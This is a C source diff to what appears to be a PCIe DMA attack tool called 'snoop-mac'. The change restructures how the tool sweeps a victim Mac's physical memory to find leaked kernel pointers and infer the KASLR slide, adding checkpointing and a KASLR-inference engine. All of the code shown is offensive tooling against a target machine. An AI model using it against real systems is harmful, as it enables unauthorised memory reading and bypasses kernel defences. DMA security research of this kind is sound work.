@@ -42,9 +42,11 @@
 #include "mask.h"
 #include "macos-mbuf-manipulation.h"
 #include "crhexdump.h"
+#include "kaslr.h"
 #include "pcie.h"
 #include "pcie-backend.h"
 #include "qemu/bswap.h"
+#include "sweep.h"
 
 //#define FUZZPCIE
 
@@ -57,17 +59,8 @@ get_page_address(uint64_t address)
 int
 read_page(uint64_t address, uint32_t devfn, uint8_t* buffer)
 {
-	const int CHUNK_SIZE = 256;
-	int i, read_result = 0;
-	uint64_t page_address = get_page_address(address);
-	for (i = 0; i < 4096; i += CHUNK_SIZE) {
-		read_result = perform_dma_read((buffer + i), CHUNK_SIZE, devfn, 0,
-			(page_address + i));
-		if (read_result != 0) {
-			break;
-		}
-	}
-	return read_result;
+	return perform_dma_long_read(buffer, 4096, devfn, 0,
+		get_page_address(address));
 }
 
 int
@@ -257,6 +250,24 @@ random_response_packet(struct packet_response_state *state,
 	return response;
 }
 
+#define SWEEP_CHECKPOINT_FILE "snoop-mac.checkpoint"
+#define SWEEP_PROGRESS_PAGES 4096 /* 16 MB */
+
+static struct sweep sweep;
+static struct kaslr_engine kaslr;
+
+static void
+look_for_leaked_symbols(uint64_t address, const uint8_t *page, void *opaque)
+{
+	uint64_t slide;
+
+	if (!kaslr_confident(&kaslr) && kaslr_add_page(&kaslr, page) &&
+		kaslr_best_slide(&kaslr, &slide)) {
+		printf("\nKASLR slide 0x%"PRIx64", found reading 0x%"PRIx64".\n",
+			slide, address);
+	}
+}
+
 #define MBUFS_PER_PAGE	(4096 / sizeof(struct mbuf))
 
 FILE *out_file;
@@ -266,6 +277,9 @@ void cleanup() {
 	if (out_file != NULL) {
 		fclose(out_file);
 	}
+	if (sweep.range_count > 0) {
+		sweep_save_checkpoint(&sweep, SWEEP_CHECKPOINT_FILE);
+	}
 }
 
 void signal_cleanup(int sig) {
@@ -278,7 +292,7 @@ uint64_t PANIC = 0xffffff8000337820;
 int
 main(int argc, char *argv[])
 {
-	int i, send_result, read_result;
+	int send_result, pages_before;
 	TLPQuadWord tlp_out_header[2];
 	TLPQuadWord tlp_out_data[16];
 	struct RawTLP raw_tlp_in;
@@ -289,14 +303,11 @@ main(int argc, char *argv[])
 	enum packet_response response;
 	struct packet_response_state packet_response_state;
 	packet_response_state.attack_state = AS_UNINITIALISED;
-	uint64_t read_addr;/* next_read_addr = 0x000000; */
-	/*uint64_t next_read_addr = 0x3b0000000;*/
 	/*uint64_t0xC0040000LL next_read_addr = 0x000000;*/
-	uint64_t scan_region_base =  0x2000000;
-	uint64_t scan_region_limit = 0x3000000;
-	uint64_t next_read_addr = scan_region_base;
-
-	uint64_t candidate_symbols[32];
+	const struct sweep_range scan_region = {
+		.start = 0x2000000,
+		.end = 0x3000000
+	};
 
 	out_file = NULL;
 	atexit(cleanup);
@@ -354,40 +365,25 @@ main(int argc, char *argv[])
 		case AS_UNINITIALISED:
 			break;
 		case AS_LOOKING_FOR_LEAKED_SYMBOL:
-		   /*if (next_read_addr > 0x500000) {*/
-			if (next_read_addr > scan_region_limit) {
-				next_read_addr = scan_region_base;
-				/*fprintf(out_file, "reset\n");*/
-			}
-			if ((next_read_addr & 0xFFFFFF) == 0) {
-				printf("0x%"PRIx64".\n", next_read_addr);
-				fflush(NULL);
-			}
-			read_result = perform_dma_read((uint8_t *)candidate_symbols,
-				256, packet_response_state.devfn, 0, next_read_addr);
-			read_addr = next_read_addr;
-			if (read_result == DRR_SUCCESS) {
-				next_read_addr += 256;
-			} else {
-				next_read_addr += 4096;
-				continue;
+			if (sweep.range_count == 0) {
+				sweep_init(&sweep, &scan_region, 1,
+					packet_response_state.devfn, 0);
+				sweep_add_consumer(&sweep, look_for_leaked_symbols, NULL);
+				kaslr_init_for_victim(&kaslr);
+				if (sweep_load_checkpoint(&sweep, SWEEP_CHECKPOINT_FILE)) {
+					puts("Resuming from checkpoint.");
+				}
 			}
-			for (i = 0; i < 32; ++i) {
-				candidate_symbols[i] = bswap64(candidate_symbols[i]);
-				/*if ((candidate_symbols[i] & 0xfffff) == 0x283c0) {*/
-				/*printf("\nFound slid gIOBMDAllocator.\n");*/
-				/*printf("At address 0x%lx.\n", read_addr);*/
-				/*printf("Slid address: 0x%lx.\n", candidate_symbols[i]);*/
-				/*printf("Slide: 0x%lx.\n", candidate_symbols[i] -*/
-				/*0xffffff8000b283c0l);*/
-				/*}*/
-				/*if ((candidate_symbols[i] & 0xFFFFFFF000000000) ==*/
-											/*0xFFFFFF8000000000) {*/
-					/*read_symbol = true;*/
-					/*fprintf(out_file, "%#16lx: %#16lx\n",*/
-						/*read_addr + i * sizeof(uint64_t),*/
-						/*candidate_symbols[i]);*/
-				/*}*/
+			pages_before = sweep.pages_read + sweep.pages_failed +
+				sweep.pages_skipped;
+			if (sweep_step(&sweep) == 0) {
+				sweep_print_progress(&sweep);
+				sweep_restart(&sweep);
+			} else if (pages_before / SWEEP_PROGRESS_PAGES !=
+				(sweep.pages_read + sweep.pages_failed +
+				sweep.pages_skipped) / SWEEP_PROGRESS_PAGES) {
+				sweep_print_progress(&sweep);
+				sweep_save_checkpoint(&sweep, SWEEP_CHECKPOINT_FILE);
 			}
 			break;
 		}